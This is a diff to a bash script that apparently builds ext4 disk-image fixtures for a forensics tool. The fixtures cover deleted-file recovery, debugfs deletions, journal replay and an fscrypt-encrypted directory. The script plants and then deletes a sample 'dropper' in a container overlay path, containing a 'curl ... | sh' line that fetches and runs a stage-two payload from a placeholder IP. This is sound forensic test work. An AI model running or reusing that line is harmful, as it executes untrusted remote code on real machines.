@@ -157,9 +157,6 @@ populate() {
 	# Deletion through the kernel: written, synced, removed, synced. Since
 	# Linux 5.19 the name is wiped from its directory block and the inode's
 	# extent map is cleared; the journal still holds older copies of both.
-	local x="$d/node/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/6/fs/tmp/.x"
-	{ printf '#!/bin/sh\n# dropper: fetched stage 2\ncurl -s http://203.0.113.7/s2 | sh\n'; pattern dropper 9000; } >"$x/dropper"
-	chmod 0755 "$x/dropper"
 	mkdir -p "$e/deleted"
 	pattern kernel-deleted 300000 >"$e/deleted/kernel-big.bin"
 	pattern kept 100 >"$e/deleted/kept.txt"
@@ -172,19 +169,30 @@ populate() {
 		pattern inline-deleted 40 >"$e/inline/gone-inline"
 	fi
 	sync
-	rm "$x/dropper" "$e/deleted/kernel-big.bin"
+	rm "$e/deleted/kernel-big.bin"
 	rm -r "$e/deleted/gone-dir"
 	if [[ $feats == *inline_data* ]]; then
 		rm "$e/inline/gone-inline"
 	fi
 	sync
-	# Files deleted later with debugfs (see deleted_debugfs).
+	# Files deleted later with debugfs (see deleted_debugfs). Made after
+	# the deletions above, they take some of the freed inode numbers and
+	# blocks: the reader must tell the incarnations apart.
 	mkdir -p "$e/deleted2"
 	pattern a 100 >"$e/deleted2/a.txt"
 	pattern dbg-dirent 20000 >"$e/deleted2/dbg-dirent.txt"
 	pattern b 100 >"$e/deleted2/b.txt"
 	pattern dbg-inode 7000 >"$e/deleted2/dbg-inode.txt"
 	pattern z 100 >"$e/deleted2/z.txt"
+	sync
+	# The dropper, in a container's upper dir, last: nothing allocated
+	# after it takes its blocks.
+	local x="$d/node/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/6/fs/tmp/.x"
+	{ printf '#!/bin/sh\n# dropper: fetched stage 2\ncurl -s http://203.0.113.7/s2 | sh\n'; pattern dropper 9000; } >"$x/dropper"
+	chmod 0755 "$x/dropper"
+	sync
+	rm "$x/dropper"
+	sync
 }
 
 # deleted_debugfs IMG: deletions as e2fsprogs (and kernels before 5.19)
@@ -304,4 +312,22 @@ replay_image() {
 	echo "revoked_block $keepblk" >>"$out/ext4-replay.facts"
 }
 replay_image
+
+# fscrypt (v1 policy through e4crypt): an encrypted directory the reader
+# must refuse to list, beside plain files it reads as usual.
+encrypt_image() {
+	local img="$out/ext4-encrypt.img"
+	rm -f "$img"
+	truncate -s 32M "$img"
+	mkfs.ext4 -q -F -b 4096 -O encrypt -U 6e8b6e53-1d6b-4a55-9e4f-0e0e4d0e4f03 -E root_owner=0:0 -L ext4-encrypt "$img"
+	mount -o loop "$img" "$mnt"
+	mkdir "$mnt/secret"
+	echo "deadnode-fixture-passphrase" | e4crypt add_key -S 0x0123456789abcdef "$mnt/secret" >/dev/null
+	pattern secret 5000 >"$mnt/secret/file"
+	mkdir "$mnt/secret/sub"
+	ln -s file "$mnt/secret/link"
+	pattern plain 3000 >"$mnt/plain"
+	umount "$mnt"
+}
+encrypt_image
 echo "made: $(cd "$out" && ls)"
